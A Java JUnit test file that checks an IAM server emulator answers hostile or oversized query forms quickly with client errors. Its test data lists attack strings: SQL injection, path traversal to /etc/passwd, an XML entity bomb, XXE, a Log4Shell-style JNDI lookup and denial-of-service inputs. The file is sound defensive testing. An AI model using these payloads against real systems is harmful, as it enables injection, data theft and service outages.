package org.extenddb.iam;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.extenddb.core.wire.WireResponse;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Forms that are meant to harm: the answer is an error of IAM's, soon, and never the server's fault. */
class HostileFormsTest {
    private static final Duration SOON = Duration.ofSeconds(5);

    private final IamServer server = IamServer.ofRoot();

    static Stream<String> hostileTexts() {
        return Stream.of(
                "'; DROP TABLE ddb_identity; --",
                "' OR '1'='1",
                "../../etc/passwd",
                "..%2f..%2f",
                "a\0b",
                "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><x>&b;</x>",
                "<![CDATA[x]]></Message></Error>",
                "&xxe;",
                "${jndi:ldap://192.0.2.1/x}",
                "\uD800",
                "\u202Eevil",
                "x".repeat(5_000));
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void anyParameterOfAnyAction_hostile_isNoFaultOfTheServer(String text) {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
        List<String> names = List.of(
                "UserName",
                "GroupName",
                "RoleName",
                "PolicyName",
                "PolicyArn",
                "PolicyDocument",
                "Path",
                "AccessKeyId",
                "AssumeRolePolicyDocument",
                "Description",
                "Marker",
                "MaxItems",
                "VersionId",
                "PermissionsBoundary",
                "Password",
                "RoleArn",
                "RoleSessionName",
                "ExternalId",
                "Policy",
                "SourceIdentity",
                "DurationSeconds",
                "Tags.member.1.Key",
                "Tags.member.1.Value",
                "TagKeys.member.1",
                "NewUserName",
                "NewPath",
                "Status",
                "PathPrefix",
                "ActionNames.member.1",
                "PolicyInputList.member.1",
                "PolicySourceArn");
        String all = names.stream().map(it -> it + "=" + encoded).collect(Collectors.joining("&"));
        String others = names.stream()
                .filter(it -> !it.matches("(User|Role|Group|Policy)Name"))
                .map(it -> it + "=" + encoded)
                .collect(Collectors.joining("&"));
        for (QueryService service : QueryService.values()) {
            for (String action : server.registry().names(service)) {
                assertNoFault(service, "Action=" + action + "&" + all);
                assertNoFault(
                        service, "Action=" + action + "&UserName=u&RoleName=r&GroupName=g&PolicyName=p&" + others);
            }
        }
    }

    @Test
    void form_withMemberOfAHugeNumber_isAnsweredSoon() {
        assertSoon("Action=CreateUser&UserName=u&Tags.member.99999999.Key=k&Tags.member.99999999.Value=v");
        assertSoon("Action=CreateUser&UserName=u2&Tags.member.99999999999999999999.Key=k&Tags.member.-1.Key=k");
        assertSoon("Action=CreateUser&UserName=u3&Tags.member.1.member.1.member.1=k");
    }

    @Test
    void form_ofManyParameters_isAnsweredSoon() {
        assertSoon("Action=TagUser&UserName=u&"
                + IntStream.rangeClosed(1, 900)
                        .mapToObj(i -> "Tags.member." + i + ".Key=k" + i + "&Tags.member." + i + ".Value=v")
                        .collect(Collectors.joining("&")));
        assertSoon("Action=GetUser&"
                + IntStream.range(0, 100_000).mapToObj(i -> "p" + i + "=").collect(Collectors.joining("&")));
        assertSoon("&".repeat(500_000));
        assertSoon("=".repeat(500_000));
        assertSoon("%".repeat(500_000));
    }

    @Test
    void policy_nestedDeepOrFullOfWildcards_isAnsweredSoon() {
        List<String> documents = new ArrayList<>();
        documents.add("[".repeat(60_000));
        documents.add("{\"Statement\":".repeat(9_000));
        documents.add("{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\""
                + "*a".repeat(5_000) + "\",\"Resource\":\"" + "*?".repeat(5_000) + "\"}]}");
        documents.add("{\"Version\":\"2012-10-17\",\"Version\":\"2012-10-17\",\"Statement\":[]}");
        for (String document : documents) {
            assertSoon("Action=CreatePolicy&PolicyName=p&PolicyDocument="
                    + URLEncoder.encode(document, StandardCharsets.UTF_8));
        }
    }

    private void assertSoon(String form) {
        assertThat(Duration.ofNanos(timed(form))).isLessThan(SOON);
    }

    private long timed(String form) {
        long start = System.nanoTime();
        assertNoFault(QueryService.IAM, form);
        return System.nanoTime() - start;
    }

    private void assertNoFault(QueryService service, String form) {
        WireResponse response = server.post(form + "&Version=" + service.version(), Map.of());
        String body = new String(response.body(), StandardCharsets.UTF_8);
        assertThat(response.status()).as("%s: %s", form, body).isLessThan(500);
        assertThatCode(() -> XmlText.check(body)).as(body).doesNotThrowAnyException();
    }
}
